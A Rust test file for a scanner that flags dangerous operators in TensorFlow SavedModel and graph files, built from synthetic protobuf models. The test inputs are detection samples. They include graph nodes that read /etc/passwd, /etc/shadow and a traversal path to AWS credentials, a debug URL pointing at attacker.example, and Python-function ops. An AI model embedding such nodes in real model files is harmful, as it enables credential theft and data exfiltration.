//! Tests for the TensorFlow scanner. TensorFlow is too large to install here, so inputs are built
//! with the test protobuf writer, mirroring the layouts `tf.saved_model.save` and Keras write
//! (TF2 traced saver functions, TF1 `save/` scopes, asset tensors, Keras metadata).

use proptest::prelude::*;
use warden_core::{Finding, Severity};

use super::*;
use crate::formats::protobuf::writer::Writer;
use crate::settings::ScanSettings;

const DT_STRING: u64 = 7;

fn attr(key: &str, value: &Writer) -> Writer {
    Writer::new().string(1, key).message(2, value)
}

fn attr_s(key: &str, value: &str) -> Writer {
    attr(key, &Writer::new().bytes(2, value.as_bytes()))
}

fn attr_list_s(key: &str, values: &[&str]) -> Writer {
    let mut list = Writer::new();
    for value in values {
        list = list.string(2, value);
    }
    attr(key, &Writer::new().message(1, &list))
}

fn attr_type(key: &str, dtype: u64) -> Writer {
    attr(key, &Writer::new().varint(6, dtype))
}

fn node(name: &str, op: &str, inputs: &[&str], attrs: &[Writer]) -> Writer {
    let mut node = Writer::new().string(1, name).string(2, op);
    for input in inputs {
        node = node.string(3, input);
    }
    for a in attrs {
        node = node.message(5, a);
    }
    node
}

fn const_str(name: &str, values: &[&str]) -> Writer {
    let mut tensor = Writer::new().varint(1, DT_STRING).message(2, &Writer::new());
    for value in values {
        tensor = tensor.string(8, value);
    }
    node(name, "Const", &[], &[attr_type("dtype", DT_STRING), attr("value", &Writer::new().message(8, &tensor))])
}

fn function(name: &str, nodes: &[Writer]) -> Writer {
    let signature = Writer::new().string(1, name).message(2, &Writer::new().string(1, "file_prefix").varint(3, DT_STRING));
    let mut function = Writer::new().message(1, &signature);
    for n in nodes {
        function = function.message(3, n);
    }
    function.message(4, &Writer::new().string(1, "identity").string(2, "Identity:output:0"))
}

fn graph_def(nodes: &[Writer], functions: &[Writer]) -> Writer {
    let mut graph = Writer::new();
    for n in nodes {
        graph = graph.message(1, n);
    }
    let mut library = Writer::new();
    for f in functions {
        library = library.message(1, f);
    }
    graph.message(2, &library).message(4, &Writer::new().varint(1, 1645))
}

fn meta_graph(graph: &Writer, extra: &[(u32, Writer)]) -> Writer {
    let info = Writer::new().string(1, "").string(4, "serve").string(5, "2.15.0");
    let saver = Writer::new().string(1, "saver_filename:0").string(2, "StatefulPartitionedCall_1:0").string(3, "StatefulPartitionedCall_2");
    let mut meta = Writer::new().message(1, &info).message(2, graph).message(3, &saver);
    for (number, message) in extra {
        meta = meta.message(*number, message);
    }
    meta
}

fn saved_model(meta: &Writer) -> Vec<u8> {
    Writer::new().varint(1, 1).message(2, meta).finish()
}

fn keras_object(identifier: &str, metadata: &str) -> Writer {
    let user_object = Writer::new().string(1, identifier).message(2, &Writer::new().varint(1, 1)).string(3, metadata);
    Writer::new().message(1, &Writer::new().varint(1, 1)).message(4, &user_object)
}

/// What `tf.keras` writes for a small Dense model, saver functions included.
fn keras_saved_model(call_body: &[Writer]) -> Vec<u8> {
    let graph_nodes = [
        node("serving_default_input_1", "Placeholder", &[], &[attr_type("dtype", 1)]),
        node("dense/kernel", "VarHandleOp", &[], &[attr_s("shared_name", "dense/kernel"), attr_type("dtype", 1)]),
        node("StatefulPartitionedCall", "StatefulPartitionedCall", &["serving_default_input_1", "dense/kernel"], &[]),
        node("saver_filename", "Placeholder", &[], &[attr_type("dtype", DT_STRING)]),
        node("StatefulPartitionedCall_1", "StatefulPartitionedCall", &["saver_filename", "dense/kernel"], &[]),
        node("StatefulPartitionedCall_2", "StatefulPartitionedCall", &["saver_filename", "dense/kernel"], &[]),
        node("NoOp", "NoOp", &[], &[]),
        const_str("Const", &["\n\u{1}\n"]),
    ];
    let mut call = vec![
        node("MatMul/ReadVariableOp", "ReadVariableOp", &["matmul_readvariableop_resource"], &[]),
        node("MatMul", "MatMul", &["inputs", "MatMul/ReadVariableOp:value:0"], &[]),
        node("BiasAdd", "BiasAdd", &["MatMul:product:0", "b"], &[]),
        node("Relu", "Relu", &["BiasAdd:output:0"], &[]),
        node("Identity", "Identity", &["Relu:activations:0"], &[]),
        node("NoOp", "NoOp", &["^MatMul/ReadVariableOp"], &[]),
    ];
    call.extend(call_body.iter().cloned());
    let save = [
        node("StaticRegexFullMatch", "StaticRegexFullMatch", &["file_prefix"], &[attr_s("pattern", "^s3://.*")]),
        const_str("Const", &[".part"]),
        const_str("Const_1", &["_temp/part"]),
        node("Select", "Select", &["StaticRegexFullMatch:output:0", "Const:output:0", "Const_1:output:0"], &[]),
        node("StringJoin", "StringJoin", &["file_prefix", "Select:output:0"], &[]),
        node("ShardedFilename", "ShardedFilename", &["StringJoin:output:0", "num_shards", "shard"], &[]),
        const_str("SaveV2/tensor_names", &["layer_with_weights-0/kernel/.ATTRIBUTES/VARIABLE_VALUE", "_CHECKPOINTABLE_OBJECT_GRAPH"]),
        const_str("SaveV2/shape_and_slices", &["", ""]),
        node("SaveV2", "SaveV2", &["ShardedFilename:filename:0", "SaveV2/tensor_names:output:0", "SaveV2/shape_and_slices:output:0"], &[]),
        node("MergeV2Checkpoints/checkpoint_prefixes", "Pack", &["ShardedFilename:filename:0", "^SaveV2"], &[]),
        node("MergeV2Checkpoints", "MergeV2Checkpoints", &["MergeV2Checkpoints/checkpoint_prefixes:output:0", "file_prefix"], &[]),
        node("Identity", "Identity", &["file_prefix", "^MergeV2Checkpoints"], &[]),
    ];
    let restore = [
        node("RestoreV2", "RestoreV2", &["file_prefix", "RestoreV2/tensor_names:output:0"], &[]),
        node("AssignVariableOp", "AssignVariableOp", &["resource", "RestoreV2:tensors:0"], &[]),
        node("NoOp_1", "NoOp", &[], &[]),
    ];
    let functions = [
        function("__inference__wrapped_model_1234", &call),
        function("__inference__traced_save_5678", &save),
        function("__inference__traced_restore_5701", &restore),
    ];
    let objects = Writer::new()
        .message(1, &keras_object("_tf_keras_network", "{\"name\": \"sequential\", \"class_name\": \"Sequential\", \"config\": {}}"))
        .message(1, &keras_object("_tf_keras_layer", "{\"name\": \"dense\", \"class_name\": \"Dense\", \"config\": {\"units\": 1}}"));
    saved_model(&meta_graph(&graph_def(&graph_nodes, &functions), &[(7, objects)]))
}

fn scan_findings(data: &[u8]) -> Vec<Finding> {
    scan_with(data, &ScanSettings::default())
}

fn scan_with(data: &[u8], settings: &ScanSettings) -> Vec<Finding> {
    let mut ctx = ScanContext::new(settings, "saved_model.pb");
    scan(&mut ctx, data);
    ctx.finish().0
}

fn find<'f>(findings: &'f [Finding], rule: &Rule) -> Option<&'f Finding> {
    findings.iter().find(|f| f.rule_id.as_str() == rule.id)
}

fn worst(findings: &[Finding]) -> Option<Severity> {
    findings.iter().map(|f| f.severity).max()
}

/// A SavedModel whose Keras call function also runs `extra`.
fn with_ops(extra: &[Writer]) -> Vec<Finding> {
    scan_findings(&keras_saved_model(extra))
}

#[test]
fn benign_keras_saved_model_is_sniffed_with_only_the_checkpoint_summary() {
    let data = keras_saved_model(&[]);
    assert_eq!(kind(&data), Some(Kind::SavedModel));
    assert_eq!(crate::sniff::detect(&data), crate::sniff::Format::SavedModel);
    let findings = scan_findings(&data);
    assert!(worst(&findings) <= Some(Severity::Info), "{findings:#?}");
    let summary = find(&findings, &CHECKPOINT_OP).expect("checkpoint summary");
    assert_eq!(summary.severity, Severity::Info);
    assert_eq!(summary.evidence.as_deref(), Some("operators: MergeV2Checkpoints ×1, RestoreV2 ×1, SaveV2 ×1, ShardedFilename ×1"));
}

#[test]
fn tf1_saver_scope_and_asset_paths_stay_quiet() {
    let nodes = [
        const_str("save/Const", &["model"]),
        const_str("save/SaveV2/tensor_names", &["dense/kernel"]),
        node("save/SaveV2", "SaveV2", &["save/Const", "save/SaveV2/tensor_names"], &[]),
        node("save/RestoreV2", "RestoreV2", &["save/Const", "save/SaveV2/tensor_names"], &[]),
        const_str("asset_path", &["/tmp/export/assets/vocab.txt"]),
        node("hash_table", "HashTableV2", &[], &[]),
        node("init_table", "InitializeTableFromTextFileV2", &["hash_table", "asset_path"], &[]),
    ];
    let asset = Writer::new().message(1, &Writer::new().string(1, "asset_path:0")).string(2, "vocab.txt");
    let data = saved_model(&meta_graph(&graph_def(&nodes, &[]), &[(6, asset)]));
    let findings = scan_findings(&data);
    assert!(worst(&findings) <= Some(Severity::Low), "{findings:#?}");
    assert_eq!(find(&findings, &DATA_READER_OP).map(|f| f.severity), Some(Severity::Low));
}

#[test]
fn top_level_checkpoint_ops_fed_by_the_saver_filename_are_routine() {
    let nodes = [
        node("saver_filename", "Placeholder", &[], &[attr_type("dtype", DT_STRING)]),
        const_str("Const_1", &[".part"]),
        node("StringJoin", "StringJoin", &["saver_filename", "Const_1"], &[]),
        node("ShardedFilename", "ShardedFilename", &["StringJoin", "num_shards", "num_shards"], &[]),
        node("SaveV2", "SaveV2", &["ShardedFilename", "SaveV2/tensor_names"], &[]),
        node("RestoreV2", "RestoreV2", &["saver_filename", "SaveV2/tensor_names"], &[]),
    ];
    let findings = scan_findings(&saved_model(&meta_graph(&graph_def(&nodes, &[]), &[])));
    assert_eq!(worst(&findings), Some(Severity::Info), "{findings:#?}");
    assert_eq!(find(&findings, &CHECKPOINT_OP).and_then(|f| f.evidence.as_deref()), Some("operators: RestoreV2 ×1, SaveV2 ×1, ShardedFilename ×1"));
}

#[test]
fn read_file_of_an_absolute_path_is_high_with_the_path_as_evidence() {
    let findings = with_ops(&[const_str("ReadFile/filename", &["/etc/passwd"]), node("ReadFile", "ReadFile", &["ReadFile/filename:output:0"], &[])]);
    let finding = find(&findings, &FILE_ACCESS_OP).expect("file access");
    assert_eq!(finding.severity, Severity::High);
    assert!(finding.message.contains("`/etc/passwd`, which is an absolute path"), "{}", finding.message);
    assert!(finding.message.contains("__inference__wrapped_model_1234"));
    assert_eq!(finding.evidence.as_deref(), Some("constant inputs: /etc/passwd"));
}

#[test]
fn file_operators_are_high_even_without_constant_paths() {
    for op in ["ReadFile", "WriteFile", "MatchingFiles", "WholeFileReaderV2", "ImmutableConst", "LoadAndRemapMatrix", "CreateSummaryFileWriter"] {
        let findings = with_ops(&[node("op", op, &["filename"], &[])]);
        assert_eq!(find(&findings, &FILE_ACCESS_OP).map(|f| f.severity), Some(Severity::High), "{op}: {findings:#?}");
    }
}

#[test]
fn python_operators_are_critical() {
    for op in ["PyFunc", "PyFuncStateless", "EagerPyFunc"] {
        let findings = with_ops(&[node("py", op, &["inputs"], &[attr_s("token", "pyfunc_0")])]);
        let finding = find(&findings, &DANGEROUS_OP).unwrap_or_else(|| panic!("{op}"));
        assert_eq!(finding.severity, Severity::Critical);
        assert_eq!(finding.evidence.as_deref(), Some("attributes: token=pyfunc_0"));
    }
}

#[test]
fn network_operators_are_high() {
    for op in ["Rpc", "TryRpc", "DataServiceDatasetV4", "RemoteCall"] {
        let findings = with_ops(&[node("net", op, &[], &[])]);
        assert_eq!(find(&findings, &NETWORK_OP).map(|f| f.severity), Some(Severity::High), "{op}");
    }
    let debug = node("dbg", "DebugIdentity", &["x"], &[attr_list_s("debug_urls", &["grpc://attacker.example:6064"])]);
    assert!(find(&with_ops(&[debug]), &NETWORK_OP).is_some());
}

#[test]
fn dataset_readers_are_medium_unless_their_path_escapes() {
    let relative = with_ops(&[const_str("files", &["train.tfrecord"]), node("ds", "TFRecordDatasetV2", &["files:output:0"], &[])]);
    assert_eq!(worst(&relative), Some(Severity::Medium));
    assert!(find(&relative, &DATA_READER_OP).is_some());
    let escaping = with_ops(&[const_str("files", &["../../../home/user/.aws/credentials"]), node("ds", "TextLineDataset", &["files:output:0"], &[])]);
    let finding = find(&escaping, &FILE_ACCESS_OP).expect("escalated");
    assert!(finding.message.contains("climbs out"), "{}", finding.message);
}

#[test]
fn checkpoint_operators_outside_the_saver_are_low_and_constant_paths_high() {
    let outside = with_ops(&[node("SaveV2", "SaveV2", &["prefix"], &[])]);
    let low = outside.iter().find(|f| f.rule_id.as_str() == CHECKPOINT_OP.id && f.severity == Severity::Low).expect("low");
    assert_eq!(low.evidence.as_deref(), Some("operators: SaveV2 ×1"));
    assert!(worst(&outside) <= Some(Severity::Low));
    let joined = with_ops(&[
        const_str("dir", &["/var/www/html/"]),
        node("path", "StringJoin", &["dir:output:0", "name"], &[]),
        node("SaveV2", "SaveV2", &["path:output:0"], &[]),
    ]);
    assert_eq!(find(&joined, &FILE_ACCESS_OP).map(|f| f.severity), Some(Severity::High), "{joined:#?}");
}

#[test]
fn attribute_dependent_operators() {
    let print_file = node("p", "PrintV2", &["x"], &[attr_s("output_stream", "file:///tmp/leak.txt")]);
    assert_eq!(find(&with_ops(&[print_file]), &FILE_ACCESS_OP).map(|f| f.severity), Some(Severity::High));
    let print_stderr = node("p", "PrintV2", &["x"], &[attr_s("output_stream", "stderr")]);
    assert!(worst(&with_ops(&[print_stderr])) <= Some(Severity::Info));
    let decode_file = node("d", "DecodeProtoV2", &["x"], &[attr_s("descriptor_source", "/etc/descriptor.pb")]);
    assert!(find(&with_ops(&[decode_file]), &FILE_ACCESS_OP).is_some());
    let decode_local = node("d", "DecodeProtoV2", &["x"], &[attr_s("descriptor_source", "local://")]);
    assert!(worst(&with_ops(&[decode_local])) <= Some(Severity::Info));
    let debug_plain = node("dbg", "DebugIdentityV2", &["x"], &[]);
    let findings = with_ops(&[debug_plain]);
    assert_eq!(find(&findings, &DEBUG_OP).map(|f| f.severity), Some(Severity::Low));
}

#[test]
fn vocabulary_file_outside_the_assets_is_high() {
    let findings = with_ops(&[
        const_str("vocab", &["/etc/shadow"]),
        node("init", "InitializeTableFromTextFileV2", &["table", "vocab:output:0"], &[]),
    ]);
    assert_eq!(find(&findings, &FILE_ACCESS_OP).map(|f| f.severity), Some(Severity::High));
}

#[test]
fn keras_metadata_is_handed_to_the_keras_scanner() {
    // With no nesting allowed, each hand-over shows up as a limit finding naming the member.
    let mut settings = ScanSettings::default();
    settings.limits.max_depth = 0;
    let findings = scan_with(&keras_saved_model(&[]), &settings);
    let handed = findings.iter().filter(|f| f.message.contains(KERAS_MEMBER)).count();
    assert_eq!(handed, 2, "{findings:#?}");

    let lambda = "{\"class_name\": \"Lambda\", \"config\": {\"function\": {\"class_name\": \"__lambda__\"}}}";
    let object = Writer::new().varint(2, 3).string(3, "root.layer-1").string(4, "_tf_keras_layer").string(5, lambda);
    let metadata = Writer::new().message(1, &Writer::new().string(3, "root").string(4, "_tf_keras_model").string(5, "{}")).message(1, &object).finish();
    assert_eq!(kind(&metadata), Some(Kind::KerasMetadata));
    let findings = scan_with(&metadata, &settings);
    assert_eq!(findings.iter().filter(|f| f.message.contains(KERAS_MEMBER)).count(), 1, "{findings:#?}");
}

#[test]
fn per_node_findings_are_capped_and_the_rest_counted() {
    let mut nodes = vec![const_str("f", &["/etc/passwd"])];
    nodes.extend((0..300).map(|i| node(&format!("r{i}"), "ReadFile", &["f"], &[])));
    let findings = scan_findings(&graph_def(&nodes, &[]).finish());
    assert_eq!(findings.iter().filter(|f| f.rule_id.as_str() == FILE_ACCESS_OP.id).count(), 256);
    let limit = findings.iter().find(|f| f.rule_id.as_str() == crate::context::LIMIT_EXCEEDED.id).expect("limit");
    assert!(limit.message.starts_with("44 further findings"), "{}", limit.message);
}

#[test]
fn frozen_graphs_and_meta_graphs_are_scanned_too() {
    let graph = graph_def(&[node("x", "Placeholder", &[], &[]), node("py", "PyFunc", &["x"], &[])], &[]);
    let frozen = graph.clone().finish();
    assert_eq!(kind(&frozen), Some(Kind::Graph));
    assert!(find(&scan_findings(&frozen), &DANGEROUS_OP).is_some());
    let meta = meta_graph(&graph, &[]).finish();
    assert_eq!(kind(&meta), Some(Kind::MetaGraph));
    assert!(find(&scan_findings(&meta), &DANGEROUS_OP).is_some());
}

#[test]
fn truncated_saved_model_is_sniffed_and_reported_high() {
    let data = keras_saved_model(&[]);
    let cut = &data[..data.len() / 2];
    assert!(looks_like(cut));
    let findings = scan_findings(cut);
    assert_eq!(find(&findings, &MALFORMED).map(|f| f.severity), Some(Severity::High), "{findings:#?}");
}

#[test]
fn wrong_wire_types_are_medium() {
    let graph = Writer::new().message(1, &Writer::new().string(1, "n").varint(2, 5));
    let data = saved_model(&meta_graph(&graph, &[]));
    let findings = scan_findings(&data);
    assert_eq!(find(&findings, &MALFORMED).map(|f| f.severity), Some(Severity::Medium), "{findings:#?}");
}

#[test]
fn onnx_text_and_other_protobufs_are_not_tensorflow() {
    let onnx = Writer::new()
        .varint(1, 8)
        .message(7, &Writer::new().message(1, &Writer::new().string(4, "Relu")))
        .message(8, &Writer::new().varint(2, 17))
        .finish();
    assert!(!looks_like(&onnx));
    // fingerprint.pb: all varints.
    let fingerprint = Writer::new().varint(1, 42).varint(2, 7).varint(3, 9).message(6, &Writer::new().varint(1, 1)).finish();
    assert!(!looks_like(&fingerprint));
    assert!(!looks_like(b"node {\n  name: \"x\"\n  op: \"Placeholder\"\n}\n"));
    assert!(!looks_like(b"{\"class_name\": \"Sequential\"}"));
    assert!(!looks_like(b""));
}

proptest! {
    #[test]
    fn random_bytes_and_text_are_not_tensorflow(data in proptest::collection::vec(any::<u8>(), 0..2048), text in "[ -~\\n\\t]{0,512}") {
        prop_assert!(!looks_like(&data));
        prop_assert!(!looks_like(text.as_bytes()));
    }

    #[test]
    fn scan_never_panics_on_random_bytes(data in proptest::collection::vec(any::<u8>(), 0..2048)) {
        let _ = scan_findings(&data);
    }

    #[test]
    fn scan_never_panics_on_mutated_models(
        flips in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8),
        cut in any::<prop::sample::Index>(),
    ) {
        let mut data = keras_saved_model(&[const_str("f", &["/etc/passwd"]), node("r", "ReadFile", &["f:output:0"], &[])]);
        for (index, byte) in flips {
            let i = index.index(data.len());
            data[i] = byte;
        }
        let _ = looks_like(&data);
        let _ = scan_findings(&data);
        let _ = scan_findings(&data[..cut.index(data.len())]);
    }
}
